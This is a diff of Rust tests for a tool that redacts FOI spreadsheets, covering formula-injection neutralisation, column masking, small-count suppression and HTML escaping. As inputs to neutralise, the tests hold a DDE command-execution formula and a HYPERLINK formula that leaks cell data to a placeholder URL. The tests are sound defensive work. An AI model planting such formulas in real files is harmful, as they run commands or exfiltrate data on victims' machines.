@@ -6,6 +6,7 @@
 #[cfg(target_arch = "wasm32")]
 wasm_bindgen_test::wasm_bindgen_test_configure!(run_in_browser);
 
+#[allow(dead_code)]
 #[path = "corpus/manifest.rs"]
 mod manifest;
 
@@ -13,7 +14,7 @@ use std::collections::BTreeMap;
 
 use foi_check::read::{Reader, Sink, Table};
 use foi_check::redact::{
-    is_direct, safe_copy, safe_name, ColumnAction, ColumnPolicy, ColumnRef, Coarsening, Policy,
+    is_direct, safe_copy, safe_name, Coarsening, ColumnAction, ColumnPolicy, ColumnRef, Policy,
     Redactor, RowAction, RowPolicy, ROW_REMOVED,
 };
 use foi_check::report::{Kind, Reason, Report, RowFinding};
@@ -29,7 +30,8 @@ fn records(bytes: &[u8]) -> (BTreeMap<u64, Vec<String>>, u64) {
         fn record(&mut self, _: Option<usize>, _: u64, _: &[&str]) {}
         fn table_end(&mut self, _: usize, _: u64) {}
         fn raw_record(&mut self, row: u64, fields: &[&str]) {
-            self.0.insert(row, fields.iter().map(|f| f.to_string()).collect());
+            self.0
+                .insert(row, fields.iter().map(|f| f.to_string()).collect());
         }
     }
     let mut raw = Raw::default();
@@ -80,7 +82,12 @@ fn keep_all() -> Policy {
 
 /// A finding as the detector gives one (the tests add it to a real report,
 /// so the redactor is tested whatever the detector finds).
-fn finding(row: u64, kind: Kind, table: Option<usize>, reasons: &[(&str, &str, &str)]) -> RowFinding {
+fn finding(
+    row: u64,
+    kind: Kind,
+    table: Option<usize>,
+    reasons: &[(&str, &str, &str)],
+) -> RowFinding {
     RowFinding {
         row,
         kind,
@@ -108,7 +115,10 @@ fn formula_injection_is_neutralised() {
         ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\""),
         ("\tx", "\"'\tx\""),
         ("\rx", "\"'\rx\""),
-        ("=HYPERLINK(\"http://x?\"&A1,\"a\")", "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\""),
+        (
+            "=HYPERLINK(\"http://x?\"&A1,\"a\")",
+            "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\"",
+        ),
         ("+44 20 7946 0000", "\"'+44 20 7946 0000\""),
         ("-A1", "\"'-A1\""),
         ("=", "\"'=\""),
@@ -158,10 +168,19 @@ fn formulas_in_headers_quoted_cells_and_titles_are_neutralised() {
     // A formula in a title line, a header and a quoted data cell; a
     // semicolon file keeps its delimiter.
     let csv = "=cmd|' /C calc'!A0\nName;@Note;Ref\n\"=1+1\";x;-3\n";
-    let out = redact_with(csv.as_bytes(), &keep_all(), &check_bytes("f.csv", csv.as_bytes(), &Options::default()), 7);
+    let out = redact_with(
+        csv.as_bytes(),
+        &keep_all(),
+        &check_bytes("f.csv", csv.as_bytes(), &Options::default()),
+        7,
+    );
     assert_eq!(
         lines(&out),
-        vec!["\"'=cmd|' /C calc'!A0\"", "Name;\"'@Note\";Ref", "\"'=1+1\";x;-3"]
+        vec![
+            "\"'=cmd|' /C calc'!A0\"",
+            "Name;\"'@Note\";Ref",
+            "\"'=1+1\";x;-3"
+        ]
     );
     let mut w = CsvWriter::new(b'\t');
     w.record(&["a\tb", "+x"]);
@@ -184,13 +203,23 @@ fn untouched_cells_keep_their_text_in_any_chunking() {
     }
     // Windows-1252 and UTF-16 files: the same text, written as UTF-8.
     let w1252: &[u8] = b"Name,Place\nJos\xe9,Caf\xe9 \xa31\n";
-    let out = redact_with(w1252, &keep_all(), &check_bytes("w.csv", w1252, &Options::default()), 3);
+    let out = redact_with(
+        w1252,
+        &keep_all(),
+        &check_bytes("w.csv", w1252, &Options::default()),
+        3,
+    );
     assert_eq!(lines(&out), vec!["Name,Place", "José,Café £1"]);
     let mut utf16: Vec<u8> = vec![0xFF, 0xFE];
     for u in "Name\tPlace\r\nZoë\tNewry\r\n".encode_utf16() {
         utf16.extend(u.to_le_bytes());
     }
-    let out = redact_with(&utf16, &keep_all(), &check_bytes("u.csv", &utf16, &Options::default()), 5);
+    let out = redact_with(
+        &utf16,
+        &keep_all(),
+        &check_bytes("u.csv", &utf16, &Options::default()),
+        5,
+    );
     assert_eq!(lines(&out), vec!["Name\tPlace", "Zoë\tNewry"]);
 }
 
@@ -219,12 +248,17 @@ fn each_redaction_action() {
         district: "Newry, Mourne & Down".into(),
     });
     report.settings.profile = Some(profile);
-    let mask = |t: &str| ColumnAction::Mask { text: t.to_string() };
+    let mask = |t: &str| ColumnAction::Mask {
+        text: t.to_string(),
+    };
     // (what, policy, expected lines)
     let cases: Vec<(&str, Policy, Vec<&str>)> = vec![
         (
             "mask a column: empty cells stay empty, header kept",
-            Policy { columns: vec![col(0, 0, "Surname", mask("[name removed]"))], ..keep_all() },
+            Policy {
+                columns: vec![col(0, 0, "Surname", mask("[name removed]"))],
+                ..keep_all()
+            },
             vec![
                 "Staff list",
                 "Surname,Collar,Rank,Joined,Age,Station,Notes",
@@ -235,7 +269,10 @@ fn each_redaction_action() {
         ),
         (
             "remove a column: header and data, not the title",
-            Policy { columns: vec![col(0, 1, "Collar", ColumnAction::Remove)], ..keep_all() },
+            Policy {
+                columns: vec![col(0, 1, "Collar", ColumnAction::Remove)],
+                ..keep_all()
+            },
             vec![
                 "Staff list",
                 "Surname,Rank,Joined,Age,Station,Notes",
@@ -248,9 +285,30 @@ fn each_redaction_action() {
             "coarsen years, ages and stations (an unknown station is kept)",
             Policy {
                 columns: vec![
-                    col(0, 3, "Joined", ColumnAction::Coarsen { by: Coarsening::Years }),
-                    col(0, 4, "Age", ColumnAction::Coarsen { by: Coarsening::Age }),
-                    col(0, 5, "Station", ColumnAction::Coarsen { by: Coarsening::District }),
+                    col(
+                        0,
+                        3,
+                        "Joined",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::Years,
+                        },
+                    ),
+                    col(
+                        0,
+                        4,
+                        "Age",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::Age,
+                        },
+                    ),
+                    col(
+                        0,
+                        5,
+                        "Station",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::District,
+                        },
+                    ),
                 ],
                 ..keep_all()
             },
@@ -264,7 +322,13 @@ fn each_redaction_action() {
         ),
         (
             "remove a row: same row number, first cell says so",
-            Policy { rows: vec![RowPolicy { row: 3, action: RowAction::Remove }], ..keep_all() },
+            Policy {
+                rows: vec![RowPolicy {
+                    row: 3,
+                    action: RowAction::Remove,
+                }],
+                ..keep_all()
+            },
             vec![
                 "Staff list",
                 "Surname,Collar,Rank,Joined,Age,Station,Notes",
@@ -275,7 +339,10 @@ fn each_redaction_action() {
         ),
         (
             "mask matches in place: the name in prose and the surname; not the rank",
-            Policy { mask_matches: true, ..Policy::default() },
+            Policy {
+                mask_matches: true,
+                ..Policy::default()
+            },
             vec![
                 "Staff list",
                 "Surname,Collar,Rank,Joined,Age,Station,Notes",
@@ -286,7 +353,10 @@ fn each_redaction_action() {
         ),
         (
             "a policy reused on a new version: the column is found by its header",
-            Policy { columns: vec![col(0, 6, "Surname", mask("[name removed]"))], ..keep_all() },
+            Policy {
+                columns: vec![col(0, 6, "Surname", mask("[name removed]"))],
+                ..keep_all()
+            },
             vec![
                 "Staff list",
                 "Surname,Collar,Rank,Joined,Age,Station,Notes",
@@ -324,6 +394,19 @@ fn small_counts_are_suppressed_with_secondary_suppression() {
             &["Constable,40,22", "Sergeant,6,<5"],
         ),
     ];
+    // Two stacked tables of counts: each gets its secondary suppression.
+    let stacked = "Officers\nRank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\n\nStaff\nGrade,Lisburn,Newry,Total\nAnalyst,30,3,33\nClerk,9,8,17\n";
+    let copy = safe_copy(
+        "s.csv",
+        stacked.as_bytes(),
+        &Policy::default(),
+        &Options::default(),
+    )
+    .unwrap();
+    let got = lines(&copy.bytes);
+    assert_eq!(got[3], "Sergeant,*,*,8");
+    assert_eq!(got[7], "Analyst,*,*,33", "{got:?}");
+    assert_eq!(got.len(), 9);
     for (table, marker, want) in cases {
         let csv = format!("Officers\n{table}");
         let policy = Policy {
@@ -337,7 +420,11 @@ fn small_counts_are_suppressed_with_secondary_suppression() {
         let got = lines(&copy.bytes);
         assert_eq!(&got[2..], *want, "{table}");
         assert!(copy.report_before.summary.small_count > 0, "{table}");
-        assert!(!copy.still_identifies(), "{table}: {:?}", copy.report_after.rows);
+        assert!(
+            !copy.still_identifies(),
+            "{table}: {:?}",
+            copy.report_after.rows
+        );
     }
 }
 
@@ -368,10 +455,23 @@ fn default_policy_masks_identifying_columns() {
         },
     ];
     let policy = Policy::default_for(&report);
-    assert_eq!(policy.columns, vec![col(0, 0, "Surname", ColumnAction::Mask { text: "[name removed]".into() })]);
+    assert_eq!(
+        policy.columns,
+        vec![col(
+            0,
+            0,
+            "Surname",
+            ColumnAction::Mask {
+                text: "[name removed]".into()
+            }
+        )]
+    );
     assert!(policy.mask_matches && policy.small_counts.suppress && policy.small_counts.secondary);
     assert_eq!(policy.small_counts.threshold, 5);
-    assert!(policy.describe().iter().any(|d| d.contains("\"Surname\"") && d.contains("[name removed]")));
+    assert!(policy
+        .describe()
+        .iter()
+        .any(|d| d.contains("\"Surname\"") && d.contains("[name removed]")));
     assert_eq!(safe_name("dir/staff.csv"), "dir/staff-safe.csv");
     assert_eq!(safe_name("staff"), "staff-safe.csv");
 }
@@ -390,11 +490,24 @@ fn round_trip_on_every_corpus_file() {
         let policy = Policy::default_for(&report);
         let copy = safe_copy(f.name, f.bytes, &policy, &options).expect(f.name);
         let after = &copy.report_after;
-        assert_eq!(after.rows_checked, report.rows_checked, "{}: row count", f.name);
+        assert_eq!(
+            after.rows_checked, report.rows_checked,
+            "{}: row count",
+            f.name
+        );
         assert_eq!(after.rows_checked, f.records, "{}", f.name);
         assert!(after.complete, "{}", f.name);
-        let left: Vec<u64> = after.rows.iter().filter(|r| is_direct(r.kind)).map(|r| r.row).collect();
-        assert!(left.is_empty(), "{}: rows still identifying after redaction: {left:?}", f.name);
+        let left: Vec<u64> = after
+            .rows
+            .iter()
+            .filter(|r| is_direct(r.kind))
+            .map(|r| r.row)
+            .collect();
+        assert!(
+            left.is_empty(),
+            "{}: rows still identifying after redaction: {left:?}",
+            f.name
+        );
 
         let (before, _) = records(f.bytes);
         let (redacted, _) = records(&copy.bytes);
@@ -412,7 +525,12 @@ fn round_trip_on_every_corpus_file() {
                 .filter(move |(_, t)| t.header_row < row && row <= t.last_row)
                 .map(|(i, _)| i)
         };
-        assert_eq!(before.keys().collect::<Vec<_>>(), redacted.keys().collect::<Vec<_>>(), "{}", f.name);
+        assert_eq!(
+            before.keys().collect::<Vec<_>>(),
+            redacted.keys().collect::<Vec<_>>(),
+            "{}",
+            f.name
+        );
         for (row, cells) in &before {
             let out = &redacted[row];
             assert_eq!(cells.len(), out.len(), "{} row {row}: width", f.name);
@@ -423,7 +541,8 @@ fn round_trip_on_every_corpus_file() {
                 let neutralised = *b == format!("'{a}");
                 let by_column = in_table(*row).any(|t| acted(t, j));
                 let by_row = flagged.contains(row) || *b == ROW_REMOVED;
-                let secondary = *b == policy.small_counts.marker && copy.outcome.secondary_suppressed > 0;
+                let secondary =
+                    *b == policy.small_counts.marker && copy.outcome.secondary_suppressed > 0;
                 assert!(
                     neutralised || by_column || by_row || secondary,
                     "{} row {row} column {j}: {a:?} became {b:?} though nothing asked for it",
@@ -440,13 +559,17 @@ mod cli {
     use std::process::Command;
 
     fn dir(name: &str) -> PathBuf {
-        let d = std::env::temp_dir().join(format!("foi-check-redact-{}-{name}", std::process::id()));
+        let d =
+            std::env::temp_dir().join(format!("foi-check-redact-{}-{name}", std::process::id()));
         std::fs::create_dir_all(&d).unwrap();
         d
     }
 
     fn run(args: &[&str]) -> (i32, String, String) {
-        let o = Command::new(env!("CARGO_BIN_EXE_foi-check")).args(args).output().unwrap();
+        let o = Command::new(env!("CARGO_BIN_EXE_foi-check"))
+            .args(args)
+            .output()
+            .unwrap();
         (
             o.status.code().unwrap_or(-1),
             String::from_utf8_lossy(&o.stdout).into_owned(),
@@ -473,25 +596,40 @@ mod cli {
             "FOI/1",
         ]);
         assert_eq!(code, 0, "{stdout}{stderr}");
-        assert!(stdout.contains("before:") && stdout.contains("after"), "{stdout}");
+        assert!(
+            stdout.contains("before:") && stdout.contains("after"),
+            "{stdout}"
+        );
         let safe = std::fs::read(&out).unwrap();
         assert!(safe.starts_with(b"\xEF\xBB\xBF"));
         assert!(String::from_utf8_lossy(&safe).contains("Sergeant,*,*,8"));
         assert_eq!(std::fs::read_to_string(&input).unwrap(), original);
         let html = std::fs::read_to_string(&record).unwrap();
-        assert!(html.contains(&foi_check::record::sha256_hex(&safe)), "safe copy hash in the record");
+        assert!(
+            html.contains(&foi_check::record::sha256_hex(&safe)),
+            "safe copy hash in the record"
+        );
         assert!(html.contains(&foi_check::record::sha256_hex(original.as_bytes())));
         assert!(html.contains("FOI/1"));
 
         // --out equal to the input is refused, and the input is untouched.
-        let (code, _, stderr) = run(&["redact", input.to_str().unwrap(), "--out", input.to_str().unwrap()]);
+        let (code, _, stderr) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            input.to_str().unwrap(),
+        ]);
         assert_eq!(code, 2);
         assert!(stderr.contains("never changed"), "{stderr}");
         assert_eq!(std::fs::read_to_string(&input).unwrap(), original);
 
         // A policy file that keeps the small counts: the re-check still finds them: exit 1.
         let policy = d.join("policy.json");
-        std::fs::write(&policy, r#"{"version": 1, "small_counts": {"suppress": false}}"#).unwrap();
+        std::fs::write(
+            &policy,
+            r#"{"version": 1, "small_counts": {"suppress": false}}"#,
+        )
+        .unwrap();
         let (code, stdout, _) = run(&[
             "redact",
             input.to_str().unwrap(),
@@ -503,7 +641,14 @@ mod cli {
         assert_eq!(code, 1, "{stdout}");
         // A bad policy is an error.
         std::fs::write(&policy, r#"{"version": 9}"#).unwrap();
-        let (code, _, stderr) = run(&["redact", input.to_str().unwrap(), "--out", out.to_str().unwrap(), "--policy", policy.to_str().unwrap()]);
+        let (code, _, stderr) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            out.to_str().unwrap(),
+            "--policy",
+            policy.to_str().unwrap(),
+        ]);
         assert_eq!(code, 2, "{stderr}");
         let _ = std::fs::remove_dir_all(&d);
     }
@@ -527,13 +672,29 @@ mod cli {
             "checked by <b>me</b>",
         ]);
         assert!(code == 0 || code == 1, "{stderr}");
-        let rec: foi_check::record::Record = serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
+        let rec: foi_check::record::Record =
+            serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
         assert_eq!(rec.files.len(), 2);
         assert!(!rec.values_included);
-        assert_eq!(rec.files[0].sha256, foi_check::record::sha256_hex(&std::fs::read(&a).unwrap()));
-        assert!(rec.files.iter().flat_map(|f| &f.findings).flat_map(|f| &f.reasons).all(|r| r.text.is_none() && r.why.is_none()));
+        assert_eq!(
+            rec.files[0].sha256,
+            foi_check::record::sha256_hex(&std::fs::read(&a).unwrap())
+        );
+        assert!(rec
+            .files
+            .iter()
+            .flat_map(|f| &f.findings)
+            .flat_map(|f| &f.reasons)
+            .all(|r| r.text.is_none() && r.why.is_none()));
         let html = d.join("record.html");
-        let (_, _, stderr) = run(&["check", b.to_str().unwrap(), "--record", html.to_str().unwrap(), "--note", "checked by <b>me</b>"]);
+        let (_, _, stderr) = run(&[
+            "check",
+            b.to_str().unwrap(),
+            "--record",
+            html.to_str().unwrap(),
+            "--note",
+            "checked by <b>me</b>",
+        ]);
         let page = std::fs::read_to_string(&html).unwrap_or_else(|_| panic!("{stderr}"));
         assert!(page.contains("checked by &lt;b&gt;me&lt;/b&gt;"));
         assert!(page.contains("default-src 'none'"));
